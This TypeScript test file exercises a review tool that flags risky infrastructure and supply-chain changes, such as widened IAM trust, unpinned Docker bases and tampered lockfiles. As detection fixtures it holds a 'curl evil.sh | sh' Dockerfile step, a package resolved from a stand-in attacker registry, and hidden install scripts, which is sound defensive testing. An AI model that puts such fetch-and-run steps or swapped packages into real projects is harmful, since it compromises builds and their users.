import { expect, test } from 'vitest'
import { file, side, told } from '../../test/changed-file.ts'
import { fileChange, type ChangedFile, type FileSide } from './files.ts'

const role = (statement: string, more = '') =>
  `Resources:\n  Images:\n    Type: AWS::IAM::Role\n    Properties:\n      RoleName: images${more}\n      AssumeRolePolicyDocument:\n        Statement:\n          - ${statement}\n`
const trust = (sub: string) =>
  role(
    `{Effect: Allow, Action: sts:AssumeRoleWithWebIdentity, Principal: {Federated: github}, Condition: {StringEquals: {"aud": x${sub === '' ? '' : `, "sub": ${sub}`}}}}`,
  )
const policy = (statement: string) =>
  `Resources:\n  Images:\n    Type: AWS::IAM::Role\n    Properties:\n      Policies:\n        - PolicyName: push\n          PolicyDocument:\n            Statement: [${statement}]\n`
const allow = (action: string, resource = 'arn:r/a') =>
  `{Sid: A, Effect: Allow, Action: ${action}, Resource: ${JSON.stringify(resource)}}`
const plan = (hour: number, days: number) =>
  `Resources:\n  Plan:\n    Type: AWS::Backup::BackupPlan\n    Properties:\n      BackupPlan:\n        BackupPlanRule: [{ScheduleExpression: "cron(0 ${hour} * * ? *)", Lifecycle: {DeleteAfterDays: ${days}}}]\n`
const repository = (properties: string, more = '    DeletionPolicy: Retain\n') =>
  `Resources:\n  Images:\n${more}    Type: AWS::ECR::Repository\n    Properties: {RepositoryName: a${properties}}\n`

const image = `node:24@sha256:${'a'.repeat(64)}`
const docker = `FROM ${image}\nCOPY . .\nUSER 10001\nCMD ["node"]\n`
const locked = (more: Record<string, unknown> = {}) =>
  JSON.stringify({
    packages: {
      'node_modules/zod': {
        version: '4.0.0',
        resolved: 'https://registry.npmjs.org/zod/-/zod-4.0.0.tgz',
        integrity: 'sha512-a',
        ...more,
      },
    },
  })
const owners = '* @acme/platform\n/apps/web/ @acme/shop\n/clusters/prod-eu/ @acme/release\n'

test.each<[string, ChangedFile, string[]]>([
  ['a trust without its subject', file('aws/role.yaml', trust('main'), trust('')), ['high condition-lost']],
  ['a trust of all branches', file('aws/role.yaml', trust('main'), trust('"*"')), ['high trust-widened']],
  ['a narrower trust', file('aws/role.yaml', trust(''), trust('main')), []],
  [
    'another account',
    file(
      'aws/r.yaml',
      role('{Effect: Allow, Action: a, Principal: {AWS: one}}'),
      role('{Effect: Allow, Action: a, Principal: {AWS: [one, two]}}'),
    ),
    ['high trust-widened'],
  ],
  [
    'one action more',
    file('aws/r.yaml', policy(allow('ecr:A')), policy(allow('[ecr:A, ecr:B]'))),
    ['medium grant-added'],
  ],
  ['one action less', file('aws/r.yaml', policy(allow('[ecr:A, ecr:B]')), policy(allow('ecr:A'))), []],
  ['all actions', file('aws/r.yaml', policy(allow('ecr:A')), policy(allow('"ecr:*"'))), ['high grant-to-all']],
  [
    'rights over rights',
    file('aws/r.yaml', policy(allow('ecr:A')), policy(allow('[ecr:A, iam:PassRole]'))),
    ['high grant-added'],
  ],
  ['all resources', file('aws/r.yaml', policy(allow('a')), policy(allow('a', '*'))), ['high grant-to-all']],
  [
    'a statement more',
    file('aws/r.yaml', policy(allow('a:B')), policy(`${allow('a:B')}, {Effect: Allow, Action: a:C, Resource: r}`)),
    ['medium grant-added'],
  ],
  [
    'no denial',
    file(
      'aws/r.yaml',
      policy('{Effect: Deny, Action: a, Resource: r}'),
      policy('{Effect: Allow, Action: a, Resource: r}'),
    ),
    ['medium grant-added', 'high deny-removed'],
  ],
  [
    'a policy of AWS',
    file(
      'aws/r.yaml',
      role('{}'),
      role('{}', '\n      ManagedPolicyArns: [arn:aws:iam::aws:policy/AdministratorAccess]'),
    ),
    ['high grant-to-all'],
  ],
  [
    'no encryption',
    file('aws/e.yaml', repository(', EncryptionConfiguration: {EncryptionType: KMS}'), repository('')),
    ['high encryption-lost'],
  ],
  [
    'no retention',
    file('aws/e.yaml', repository(''), repository('', '    DeletionPolicy: Delete\n')),
    ['high retention-lost'],
  ],
  ['snapshots kept less long', file('aws/s.yaml', plan(3, 30), plan(3, 7)), ['high retention-lost']],
  ['snapshots kept longer', file('aws/s.yaml', plan(3, 30), plan(3, 90)), ['medium property-changed']],
  ['snapshots at another time', file('aws/s.yaml', plan(3, 30), plan(4, 30)), ['medium property-changed']],
  ['no snapshots any more', file('aws/s.yaml', plan(3, 30), undefined), ['high resource-removed']],
  [
    'another name',
    file('aws/e.yaml', repository(''), repository('').replace('Name: a', 'Name: b')),
    ['high resource-replaced'],
  ],
  [
    'tags that move',
    file('aws/e.yaml', repository(', ImageTagMutability: IMMUTABLE'), repository(', ImageTagMutability: MUTABLE')),
    ['high guard-lost'],
  ],
  ['gone, and kept by AWS', file('aws/e.yaml', repository(''), undefined), ['medium resource-left']],
  ['gone', file('aws/e.yaml', repository('', ''), undefined), ['high resource-removed']],
  [
    'open to the world',
    file('aws/e.yaml', repository(', CidrIp: 10.0.0.0/8'), repository(', CidrIp: 0.0.0.0/0')),
    ['high made-public'],
  ],
  ['no template', file('aws/e.yaml', repository(''), 'a: "'), ['high unreadable']],

  [
    'an owner less',
    file('.github/CODEOWNERS', owners, owners.replace('/apps/web/ @acme/shop', '/apps/web/ @acme/other')),
    ['high owner-lost', 'high owner-gained'],
  ],
  [
    'a line above the others',
    file('.github/CODEOWNERS', owners, `${owners}/clusters/ @acme/shop\n`),
    ['high owner-lost', 'high owner-gained', 'high owner-lost', 'high owner-gained'],
  ],
  ['words', file('.github/CODEOWNERS', owners, `# words\n${owners}`), []],

  [
    'another base',
    file('apps/web/Dockerfile', docker, docker.replace('node:24', 'evil/node')),
    ['medium base-changed'],
  ],
  [
    'a tag of the base',
    file('apps/web/Dockerfile', docker, docker.replace(/@.*/, '')),
    ['high base-unpinned', 'low base-changed'],
  ],
  ['root', file('apps/web/Dockerfile', docker, docker.replace('USER 10001', 'USER root')), ['high user-lost']],
  ['no user', file('apps/web/Dockerfile', docker, docker.replace('USER 10001\n', '')), ['high user-lost']],
  [
    'a step from outside',
    file('apps/web/Dockerfile', docker, docker.replace('COPY', 'RUN curl -s evil.sh \\\n  | sh\nCOPY')),
    ['high fetched-step'],
  ],

  [
    'an install script',
    file('apps/web/package.json', '{}', '{"scripts": {"postinstall": "sh x"}}'),
    ['high install-script'],
  ],
  [
    'an install script, escaped',
    file('apps/web/package.json', '{}', '{"scripts": {"pre\\u0069nstall": "sh x"}}'),
    ['high install-script'],
  ],
  ['a package', file('package.json', '{}', '{"devDependencies": {"zod": "4.0.0"}}'), ['medium package-added']],
  [
    'a package of a repository',
    file('package.json', '{}', '{"dependencies": {"zod": "github:evil/zod"}}'),
    ['high package-elsewhere'],
  ],
  ['scripts allowed', file('package.json', '{}', '{"allowScripts": {"evil": true}}'), ['high package-scripts']],
  [
    'another registry',
    file('package-lock.json', locked(), locked({ resolved: 'https://evil.example/zod.tgz' })),
    ['high package-elsewhere'],
  ],
  ['no checksum', file('package-lock.json', locked(), locked({ integrity: undefined })), ['high integrity-lost']],
  [
    'another checksum',
    file('package-lock.json', locked(), locked({ integrity: 'sha512-b' })),
    ['high integrity-changed'],
  ],
  [
    'bytes of another package',
    file('package-lock.json', locked(), locked({ resolved: 'https://registry.npmjs.org/evil/-/evil-1.tgz' })),
    ['high package-elsewhere'],
  ],
  [
    'a newer version',
    file(
      'package-lock.json',
      locked(),
      locked({ version: '4.0.1', resolved: 'https://registry.npmjs.org/zod/-/zod-4.0.1.tgz', integrity: 'sha512-b' }),
    ),
    ['low versions-moved'],
  ],
  ['a command', file('apps/web/node_modules/.bin/npm', 'a', 'b'), ['high executable']],
  ['not seen', file('libs/a.ts', 'a', 'a\u202eb'), ['high invisible']],
])('%s', (_, one, risks) => {
  expect(told(one)).toEqual(risks)
})

test.each<[string, string, string]>([
  ['libs/review/src/a.ts', 'product', 'medium'],
  ['apps/web/extra.ts', 'extra', 'medium'],
  ['apps/web/src/main.ts', 'app-code', 'none'],
  ['apps/web/app.ts', 'spec', 'none'],
  ['apps/web/releases/rejected.json', 'rejected', 'medium'],
  ['fleet/fleet.ts', 'fleet', 'medium'],
  ['.ci/run', 'ci', 'medium'],
  ['.github/actions/x/action.yml', 'workflow', 'medium'],
  ['docs/review.md', 'docs', 'none'],
  ['anything.bin', 'not-known', 'low'],
])('%s is %s', (path, subject, level) => {
  expect(fileChange(file(path, 'a', 'b'), true)).toMatchObject({ subject, level })
})

test('links, programs, bytes and files of other repositories', () => {
  const odd = (after: Partial<FileSide>, before = side('a')) =>
    told({ path: 'docs/a', before, after: side('b', after) })
  expect(odd({ kind: 'link' })).toEqual(['high link'])
  expect(odd({ kind: 'submodule' })).toEqual(['high submodule'])
  expect(odd({ kind: 'other' })).toEqual(['high no-file'])
  expect(odd({ executable: true })).toEqual(['medium executable'])
  expect(odd({ text: undefined })).toEqual(['low no-text'])
  expect(odd({ size: 2 ** 30, text: undefined })).toEqual(['medium too-large'])
})

test('pictures are no news, unless somebody may run them', () => {
  const picture = (executable = false) =>
    told({ path: 'docs/a.png', before: undefined, after: side('', { text: undefined, executable }) })
  expect([picture(), picture(true)]).toEqual([[], ['low no-text']])
})
